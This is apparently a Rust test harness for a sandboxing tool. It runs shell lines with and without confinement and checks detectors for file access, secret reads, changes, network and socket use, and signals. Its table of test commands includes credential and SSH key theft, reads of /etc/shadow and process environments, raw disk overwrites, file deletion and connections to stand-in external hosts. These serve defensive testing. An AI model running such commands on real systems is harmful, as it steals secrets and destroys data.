//! The first process of a room: furnishes it, runs one line after the other and asks the witnesses. A line that comes
//! from outside runs behind the walls; the lines that run without are in [`HARMLESS`].

use crate::fixture::{self, HOME, PROJECT};
use crate::room::{self, DESK, PROGRAM, User};
use crate::witness::{Kind, Witness};
use crate::{Level, Order, Report};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::process::{Pid, PidfdFlags, pidfd_open};
use std::fs::{self, File};
use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// A line that takes longer is ended, and what it did until then counts.
const LIMIT: Duration = Duration::from_secs(2);

/// How long the processes of a line may take to be gone once it has ended, where it is claimed that they will be.
const CLAIMED: Duration = Duration::from_secs(3);
/// And where nobody says so.
const NOT_CLAIMED: Duration = Duration::from_millis(300);

/// Lines that run without walls, in the room only, and what the witnesses must see of each.
pub(crate) const HARMLESS: &[(&str, &[Kind])] = &[
    ("echo hello; cat README.md; echo x > made; ls /usr/bin > /dev/null; cat /etc/passwd", &[]),
    ("cat ~/.aws/credentials", &[Kind::Touched, Kind::Secret]),
    ("base64 ~/.ssh/id_rsa", &[Kind::Touched]),
    ("cp ~/.ssh/id_rsa stolen", &[Kind::Touched, Kind::Secret]),
    ("head -c 20 /dev/sda", &[Kind::Touched]),
    ("cat /etc/shadow > /dev/null", &[Kind::Touched]),
    ("ls ~/work", &[Kind::Touched]),
    ("tr '\\0' '\\n' < /proc/$VICTIM/environ", &[Kind::Secret]),
    ("echo more >> ~/notes.txt", &[Kind::Touched, Kind::Changed]),
    ("printf '%040d' 0 | dd of=/dev/sda1 conv=notrunc 2>&1", &[Kind::Touched]),
    ("rm ~/work/important.txt", &[Kind::Touched, Kind::Changed]),
    ("mv ~/Documents ~/Papers", &[Kind::Touched, Kind::Changed]),
    ("touch /srv/data/new", &[Kind::Touched, Kind::Changed]),
    ("echo >> /etc/hosts", &[Kind::Changed]),
    ("mkdir ~/remote.git/hooks", &[Kind::Changed]),
    ("git push -q origin HEAD~1:refs/heads/new", &[Kind::Changed]),
    ("chmod 600 ~/notes.txt", &[Kind::Attributes]),
    ("echo x > /dev/tcp/127.0.0.1/4444", &[Kind::Network]),
    ("echo x > /dev/tcp/203.0.113.9/4445", &[Kind::Network]),
    ("echo x > /dev/udp/198.51.100.7/53", &[Kind::Network]),
    ("getent hosts evil.example", &[Kind::Network]),
    (
        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ARGV[0]) or die' /run/docker.sock",
        &[Kind::Socket],
    ),
    (
        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"\\0\".$ARGV[0]) or die' leashd-walls",
        &[Kind::Socket],
    ),
    ("kill $VICTIM", &[Kind::Signal]),
    ("kill -STOP $VICTIM", &[Kind::Signal]),
    ("setsid sleep 60 > /dev/null 2>&1 &", &[Kind::Survivor]),
    ("sleep 60", &[]),
];

pub(crate) fn run(user: User, base: &Path, leashd: &Path) {
    room::enter(base, leashd, user);
    let secret = fixture::plant(user);
    let mut witness = Witness::new(user, secret);
    for order in std::io::stdin().lock().lines() {
        let order: Order = serde_json::from_str(&order.unwrap()).unwrap();
        fixture::restore(user);
        let report = carry_out(user, &order, &mut witness);
        // Or the lines after it would do no harm because they do nothing.
        let runs = user.command("bash").args(["-c", "true"]).status().unwrap();
        assert!(runs.success(), "after {order:?} nothing runs here any more: {report:?}");
        println!("{}", serde_json::to_string(&report).unwrap());
        std::io::stdout().flush().unwrap();
    }
}

fn carry_out(user: User, order: &Order, witness: &mut Witness) -> Report {
    let output: PathBuf = Path::new(DESK).join("output");
    let start = Instant::now();
    let mut command = match order {
        Order::Free(number) => {
            let mut command = user.command("bash");
            command.args(["-c", HARMLESS[*number].0]).env("VICTIM", witness.victim().to_string());
            command
        }
        Order::Contained { line, level } => contained(user, line, *level),
    };
    let file = File::create(&output).unwrap();
    command.env("HOME", HOME).env("USER", "dev").current_dir(PROJECT);
    command.stdin(Stdio::null()).stdout(file.try_clone().unwrap()).stderr(file);
    let status = end_of(command.spawn().unwrap());
    let patience = match order {
        Order::Contained { level: Level::Namespaces, .. } => CLAIMED,
        Order::Contained { level: Level::Landlock, .. } | Order::Free(_) => NOT_CLAIMED,
    };
    let findings = witness.look(&output, patience);
    let said = fs::read(&output).unwrap();
    Report {
        findings,
        status,
        said: String::from_utf8_lossy(&said).chars().take(300).collect(),
        milliseconds: start.elapsed().as_millis().try_into().unwrap(),
    }
}

fn contained(user: User, line: &str, level: Level) -> Command {
    let mut command = user.command(PROGRAM);
    command.args(["sandbox", "exec", "--dir", PROJECT, "--level", level.as_str()]);
    // Without it this command waits ten seconds before it does anything.
    command.args(["--env", "FILTER_BRANCH_SQUELCH_WARNING"]).env("FILTER_BRANCH_SQUELCH_WARNING", "1");
    command.args(["--", "bash", "-c", line]);
    command
}

/// Waits for the end, and ends what takes too long.
fn end_of(mut process: Child) -> Option<i32> {
    let pidfd = pidfd_open(Pid::from_child(&process), PidfdFlags::empty()).unwrap();
    let limit = Timespec::try_from(LIMIT).unwrap();
    let ended = poll(&mut [PollFd::new(&pidfd, PollFlags::IN)], Some(&limit)).unwrap() > 0;
    if !ended {
        process.kill().unwrap();
    }
    let status = process.wait().unwrap();
    ended.then(|| status.code().unwrap_or(-1))
}
